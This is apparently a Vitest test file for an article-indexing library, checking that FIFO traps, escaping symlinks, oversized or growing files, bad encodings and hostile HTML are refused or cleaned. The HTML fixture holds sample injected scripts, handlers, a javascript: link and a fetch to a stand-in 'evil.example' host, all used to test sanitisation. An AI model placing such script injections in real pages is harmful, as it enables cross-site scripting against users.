import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { changedSinceIndexed } from '../../src/articles/changed.js';
import { DEFAULT_MAX_ARTICLE_BYTES, fileHash, loadArticles } from '../../src/articles/load.js';
import { Footnote } from '../../src/library/footnote.js';
import { addArticle } from '../../src/library/add-article.js';
import type { IndexSummary } from '../../src/index/build.js';
import type { Logger } from '../../src/log.js';
import { CORAL, articlesCopy, silentLog, tempDir, testConfig } from '../support/setup.js';

const MIB = 1024 * 1024;

const NORMAL = { 'science/coral-reefs.md': CORAL };

// Everything a page may carry that is not article text. Each marker must stay out of the text.
const HOSTILE_HTML = (trap: string): string => `<!DOCTYPE html>
<html><head>
<title>Harbour ferry returns</title>
<script>document.cookie = "MARKER_HEAD_SCRIPT";</script>
<script src="file://${trap}"></script>
<link rel="stylesheet" href="file://${trap}">
<style>body::after { content: "MARKER_STYLE"; }</style>
</head>
<body onload="MARKER_ONLOAD()">
<article>
<h1>Harbour ferry returns</h1>
<p onclick="MARKER_ONCLICK()">The harbour ferry resumed its crossings on Monday after the storm damage to the pier was repaired.</p>
<script>fetch("https://evil.example/?MARKER_BODY_SCRIPT")</script>
<p>Passengers queued from dawn, and the first boat left the quay at seven with every seat taken.<script>alert("MARKER_INLINE_SCRIPT")</script></p>
<iframe src="file://${trap}">MARKER_IFRAME_FALLBACK</iframe>
<noscript>MARKER_NOSCRIPT</noscript>
<p>The operator said <a href="javascript:alert('MARKER_JS_LINK')">the timetable</a> would stay as it was before the storm.</p>
<img src="file://${trap}" onerror="MARKER_ONERROR()" alt="">
<svg><script>MARKER_SVG_SCRIPT</script></svg>
<template><p>MARKER_TEMPLATE</p></template>
<object data="file://${trap}">MARKER_OBJECT</object>
<style>p { color: red; } /* MARKER_BODY_STYLE */</style>
</article>
</body></html>`;

function utf16(text: string, order: 'le' | 'be', bom = true): Buffer {
  const le = Buffer.from(text, 'utf16le');
  const bytes = order === 'le' ? le : le.swap16();
  return bom ? Buffer.concat([Buffer.from(order === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), bytes]) : bytes;
}

function capturingLog(): { log: Logger; lines: string[] } {
  const lines: string[] = [];
  const log = pino(
    { level: 'info' },
    { write: (line: string) => void lines.push((JSON.parse(line) as { msg: string }).msg) },
  );
  return { log, lines };
}

/** Fails with ENXIO unless some process has the FIFO open for reading (or is blocked opening it). */
function openForWriting(fifo: string): number {
  return fs.openSync(fifo, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK);
}

const open: Footnote[] = [];
const fifos: string[] = [];

afterAll(async () => {
  // Were a read blocked on a trap, this would release it, so a failing run still ends.
  for (const fifo of fifos) {
    try {
      fs.closeSync(openForWriting(fifo));
    } catch {
      // ENXIO: nothing is reading it, as it should be.
    }
  }
  await Promise.all(open.splice(0).map((f) => f.close()));
});

function mkfifo(file: string): string {
  execFileSync('mkfifo', [file]);
  fifos.push(file);
  return file;
}

describe('hostile and broken article files', () => {
  let dir: string;
  let outside: string;
  let trap: string;
  let huge: string;
  let secret: string;
  /** False where the file system keeps no access times (noatime): then they prove nothing. */
  let keepsAccessTimes: boolean;
  let summary: IndexSummary;
  let lines: string[];
  let f: Footnote;

  beforeAll(async () => {
    dir = articlesCopy(NORMAL);
    outside = tempDir('footnote-outside-');
    // Opening a FIFO for reading blocks until a writer comes: reading a trap hangs the build.
    trap = mkfifo(path.join(outside, 'trap.txt'));
    fs.mkdirSync(path.join(outside, 'folder'));
    fs.writeFileSync(
      path.join(outside, 'folder/secret.txt'),
      'The lighthouse keeper hid the brass key under the third stair.\n',
    );
    mkfifo(path.join(outside, 'folder/trap.txt'));

    const put = (file: string, content: string | Buffer): void => {
      fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      fs.writeFileSync(path.join(dir, file), content);
    };
    put('empty.txt', '');
    put('blank.md', '  \n\t\n\n   \n');
    // A page whose story needs scripts or a sign-in: its reading keeps almost nothing.
    put(
      'sign-in.html',
      '<html><head><title>Subscriber story</title></head><body><div id="app"></div><p>Please sign in to keep reading.</p></body></html>',
    );
    put('binary.txt', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37 + (i >> 7)) % 256)));
    put(
      'image.txt',
      Buffer.from(
        '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201ad7d5bc30000000049454e44ae426082',
        'hex',
      ),
    );
    // Valid UTF-8, so only the NUL check keeps it out.
    put('nul-text.txt', 'A sentence that looks like text\u0000\u0000\u0000 until the NUL bytes.\n');
    put('latin1.txt', Buffer.from('Caf\xe9 owners in the old town said business was good.\n', 'latin1'));
    put(
      'utf16le.txt',
      utf16(
        'Tram drivers voted on Friday to accept the new pay offer from the city.\r\n\r\nThe deal ends a dispute that began in the spring.\r\n',
        'le',
      ),
    );
    put(
      'utf16be.md',
      utf16(
        '# Library hours\n\nThe central library will open on Sundays from next month, the council announced.\n',
        'be',
      ),
    );
    put('utf16-no-bom.txt', utf16('Without a byte-order mark the encoding is a guess.\n', 'le', false));
    put('html/harbour-ferry.html', HOSTILE_HTML(trap));
    // Nested deeper than any page is: refused before it is parsed, which would take the event loop for seconds.
    put('nested.html', `<html><body>${'<div>'.repeat(300)}Deep.${'</div>'.repeat(300)}</body></html>`);
    put('science/reefs-again.md', CORAL);
    // A folder named like an article is walked as a folder: no read of it fails.
    fs.mkdirSync(path.join(dir, 'notes.txt'));
    mkfifo(path.join(dir, 'pipe.txt'));
    fs.symlinkSync(trap, path.join(dir, 'link-out.txt'));
    fs.symlinkSync(path.join(outside, 'folder'), path.join(dir, 'linked-folder'));
    fs.symlinkSync(path.join(dir, 'no-such-article.txt'), path.join(dir, 'dangling.txt'));
    fs.symlinkSync(path.join(dir, 'loop-b.txt'), path.join(dir, 'loop-a.txt'));
    fs.symlinkSync(path.join(dir, 'loop-a.txt'), path.join(dir, 'loop-b.txt'));

    // Sparse: 50 MiB that take no time or disk space to make.
    huge = path.join(dir, 'huge.txt');
    fs.writeFileSync(huge, '');
    fs.truncateSync(huge, 50 * MIB);
    // An access time in 1970 is moved by any read (relatime updates an atime older than a day).
    secret = path.join(outside, 'folder/secret.txt');
    const control = path.join(outside, 'control.txt');
    fs.writeFileSync(control, 'control');
    for (const file of [huge, secret, control]) fs.utimesSync(file, 0, new Date());
    fs.readFileSync(control);
    keepsAccessTimes = fs.statSync(control).atimeMs !== 0;

    const captured = capturingLog();
    lines = captured.lines;
    f = new Footnote(testConfig({ ARTICLES_DIR: dir }), captured.log);
    open.push(f);
    summary = await f.reindex();
  });

  it('indexes the normal articles and the usable hostile ones', () => {
    expect(summary.articles).toBe(5);
    expect(summary.updated).toBe(true);
  });

  it('skips every unusable file with a reason naming what is wrong', () => {
    const reasons = Object.fromEntries(summary.skipped.map((s) => [s.file, s.reason]));
    expect(reasons).toEqual({
      'binary.txt': expect.stringMatching(/^not a text file \(it contains NUL bytes\)/),
      'blank.md': 'no article text after cleaning',
      'dangling.txt': 'broken symlink',
      'empty.txt': 'empty file',
      'huge.txt': 'larger than 10 MiB (50 MiB); split it or raise MAX_ARTICLE_MB',
      'image.txt': expect.stringMatching(/^not a text file/),
      'latin1.txt': 'not valid UTF-8 text',
      'link-out.txt': `symlink points outside the articles directory (to ${fs.realpathSync(trap)})`,
      'linked-folder': `symlink points outside the articles directory (to ${fs.realpathSync(path.join(outside, 'folder'))})`,
      'loop-a.txt': 'broken symlink (it loops)',
      'loop-b.txt': 'broken symlink (it loops)',
      'nested.html': 'too complex to read: HTML elements nested more than 256 deep',
      'nul-text.txt': expect.stringMatching(/^not a text file/),
      'pipe.txt': 'not a regular file (a named pipe)',
      'science/reefs-again.md': 'same content as science/coral-reefs.md, which is indexed instead',
      'sign-in.html': 'almost no article text after cleaning (6 words; npm run inspect shows what was read)',
      'utf16-no-bom.txt': expect.stringMatching(/UTF-16 with a byte-order mark/),
    });
  });

  it('logs one warning per skipped file, naming the file and the reason', () => {
    expect(lines.filter((l) => l.startsWith('skipped '))).toEqual(
      summary.skipped.map(({ file, reason }) => `skipped ${file}: ${reason}`),
    );
  });

  it('never reads anything outside the articles directory', () => {
    // No reader is waiting on either trap, and none can have finished without a writer.
    for (const fifo of fifos.filter((p) => p.startsWith(outside))) expect(() => openForWriting(fifo)).toThrow(/ENXIO/);
    expect(summary.skipped.map((s) => s.file).filter((file) => file.startsWith('linked-folder/'))).toEqual([]);
    if (keepsAccessTimes) expect(fs.statSync(secret).atimeMs).toBe(0);
  });

  it('does not read a file over the size limit', () => {
    if (keepsAccessTimes) expect(fs.statSync(huge).atimeMs).toBe(0);
  });

  it('answers from the normal articles as an index of them alone does', async () => {
    const alone = new Footnote(testConfig({ ARTICLES_DIR: articlesCopy(NORMAL) }), silentLog);
    open.push(alone);
    await alone.reindex();
    const quotes = async (footnote: Footnote, question: string): Promise<string[][]> =>
      (await footnote.ask(question)).citations.map((c) => [c.article.id, c.quote]);
    for (const question of [
      'Is Jack Ma open to working with Apple on payments?',
      'How much of the reef was bleached?',
    ]) {
      const expected = await quotes(alone, question);
      expect(expected.length).toBeGreaterThan(0);
      expect(await quotes(f, question)).toEqual(expected);
    }
  });

  it('quotes a sentence of a duplicated article once', async () => {
    const answer = await f.ask('What did marine biologists count on the reef after the cool summer?');
    const quotes = answer.citations.map((c) => c.quote);
    expect(quotes.some((q) => q.includes('Marine biologists counted more healthy coral'))).toBe(true);
    expect(new Set(quotes).size).toBe(quotes.length);
    expect(answer.citations.map((c) => c.article.id)).not.toContain('science/reefs-again');
  });

  it('decodes UTF-16 with a byte-order mark', async () => {
    const index = f.index()!;
    expect(index.article('utf16le')?.text).toBe(
      'Tram drivers voted on Friday to accept the new pay offer from the city.\n\nThe deal ends a dispute that began in the spring.',
    );
    expect(index.article('utf16be')).toMatchObject({
      title: 'Library hours',
      text: 'The central library will open on Sundays from next month, the council announced.',
    });
    const answer = await f.ask('Did the tram drivers accept the pay offer?');
    expect(answer.citations[0]).toMatchObject({
      article: { id: 'utf16le' },
      quote: 'Tram drivers voted on Friday to accept the new pay offer from the city.',
    });
  });

  it('indexes a page with scripts, styles, frames and handlers as its text alone', async () => {
    const page = f.index()!.article('html/harbour-ferry');
    expect(page?.title).toBe('Harbour ferry returns');
    expect(page?.text).toBe(
      [
        'The harbour ferry resumed its crossings on Monday after the storm damage to the pier was repaired.',
        'Passengers queued from dawn, and the first boat left the quay at seven with every seat taken.',
        'The operator said the timetable would stay as it was before the storm.',
      ].join('\n\n'),
    );
    expect(page?.text).not.toMatch(/MARKER|javascript:|alert|<|>/);
    const answer = await f.ask('When did the harbour ferry resume its crossings?');
    expect(answer.citations[0]?.article.id).toBe('html/harbour-ferry');
    for (const c of answer.citations) expect(c.quote).not.toMatch(/MARKER/);
  });
});

describe('the size limit', () => {
  it('is 10 MiB unless told otherwise, and a file exactly at the limit is read', async () => {
    expect(DEFAULT_MAX_ARTICLE_BYTES).toBe(10 * MIB);
    const dir = tempDir('footnote-limit-');
    const limit = 64 * 1024;
    fs.writeFileSync(path.join(dir, 'at-limit.txt'), Buffer.alloc(limit, 'The council met again on Tuesday. '));
    fs.writeFileSync(path.join(dir, 'over-limit.txt'), Buffer.alloc(limit + 1, 'The council met again on Wednesday. '));
    const result = await loadArticles(dir, { maxBytes: limit });
    expect(result.articles.map((a) => a.file)).toEqual(['at-limit.txt']);
    expect(result.skipped).toEqual([
      { file: 'over-limit.txt', reason: 'larger than 0.0625 MiB (0.1 MiB); split it or raise MAX_ARTICLE_MB' },
    ]);
    await expect(loadArticles(dir, { maxBytes: 0 })).rejects.toThrow(RangeError);
  });
});

/** Bytes this process has read so far (read, pread and the like, from any thread): Linux's count. */
function bytesRead(): number {
  return Number(/^rchar: (\d+)$/m.exec(fs.readFileSync('/proc/self/io', 'utf8'))![1]);
}

describe('a quoted article replaced by a trap', () => {
  const QUESTION = 'How much of the reef was bleached?';
  const QUOTED = 'science/coral-reefs.md';
  // MAX_ARTICLE_MB: no check or load may read more than this of one file.
  const LIMIT = MIB;
  // More than libuv's four threads: were any read blocked on a trap, every fs.promises call after would wait too.
  const QUESTIONS = 5;

  /** A library that has answered QUESTION from QUOTED, the file then taken away for `replace` to put something in. */
  async function quotedThenReplaced(replace: (file: string) => void): Promise<Footnote> {
    const articles = articlesCopy(NORMAL);
    const f = new Footnote(
      testConfig({ ARTICLES_DIR: articles, RETRIEVAL_MODE: 'lexical', MAX_ARTICLE_MB: String(LIMIT / MIB) }),
      silentLog,
    );
    open.push(f);
    await f.reindex();
    expect((await f.ask(QUESTION)).citations[0]?.article.file).toBe(QUOTED);
    const file = path.join(articles, QUOTED);
    fs.rmSync(file);
    replace(file);
    return f;
  }

  /** QUESTIONS at once: each is answered, from other articles, and a file is added after. */
  async function expectAnsweredThenAdded(f: Footnote): Promise<void> {
    const answers = await Promise.all(Array.from({ length: QUESTIONS }, () => f.ask(QUESTION)));
    for (const answer of answers) expect(answer.citations.map((c) => c.article.file)).not.toContain(QUOTED);
    await fs.promises.readFile(path.join(f.config.articlesDir, 'alibaba-jack-ma-open-to-apple-payments.txt'));
    const added = await addArticle(f, f.config, {
      name: 'trams.txt',
      bytes: Buffer.from('Tram drivers voted on Friday to accept the new pay offer from the city council.\n'),
    });
    expect(added.added).toBe(true);
    const answer = await f.ask('Did the tram drivers accept the pay offer?');
    expect(answer.citations[0]?.article.file).toBe(added.article.file);
  }

  it('still counts an article linked from within the folder as unchanged', async () => {
    const dir = tempDir('footnote-linked-');
    fs.writeFileSync(path.join(dir, 'coral.md'), CORAL);
    fs.symlinkSync(path.join(dir, 'coral.md'), path.join(dir, 'linked.md'));
    const hash = fileHash(Buffer.from(CORAL));
    expect(await changedSinceIndexed(dir, [{ file: 'linked.md', hash }], LIMIT)).toEqual([]);
    fs.writeFileSync(path.join(dir, 'coral.md'), CORAL.replace('half', 'a third'));
    expect(await changedSinceIndexed(dir, [{ file: 'linked.md', hash }], LIMIT)).toEqual(['linked.md']);
  });

  it.each([
    ['a named pipe', (file: string) => void mkfifo(file)],
    ['a symlink to /dev/zero', (file: string) => fs.symlinkSync('/dev/zero', file)],
  ])('is not quoted once it is %s, none of it is read, and adding still works', async (_, replace) => {
    const f = await quotedThenReplaced(replace);
    const before = bytesRead();
    await expectAnsweredThenAdded(f);
    // The other articles and the index are read again; nothing of the trap.
    expect(bytesRead() - before).toBeLessThan(LIMIT);
  });

  it('is read no further than the size limit while it grows', async () => {
    let writer: ChildProcess | undefined;
    let grown = '';
    const f = await quotedThenReplaced((file) => {
      // Appends 64 KiB about every millisecond, to 64 MiB: past the limit, and on while the questions are asked.
      const grow = `const fs = require('fs'); const fd = fs.openSync(process.argv[1], 'a');
        const chunk = Buffer.alloc(1 << 16, 'The reef grew. '); const pause = new Int32Array(new SharedArrayBuffer(4));
        for (let i = 0; i < 1024; i++) { fs.writeSync(fd, chunk); Atomics.wait(pause, 0, 0, 1); }`;
      fs.writeFileSync(file, CORAL);
      writer = spawn(process.execPath, ['-e', grow, file], { stdio: 'ignore' });
      grown = file;
    });
    try {
      // Larger than all the questions' checks and updates could read between them at LIMIT each.
      const large = (2 * QUESTIONS + 1) * LIMIT;
      while (fs.statSync(grown).size <= large) await new Promise((resolve) => setTimeout(resolve, 10));
      const before = bytesRead();
      const answers = await Promise.all(Array.from({ length: QUESTIONS }, () => f.ask(QUESTION)));
      expect(bytesRead() - before).toBeLessThan(large);
      for (const answer of answers) expect(answer.citations.map((c) => c.article.file)).not.toContain(QUOTED);
    } finally {
      writer?.kill();
    }
  });
});
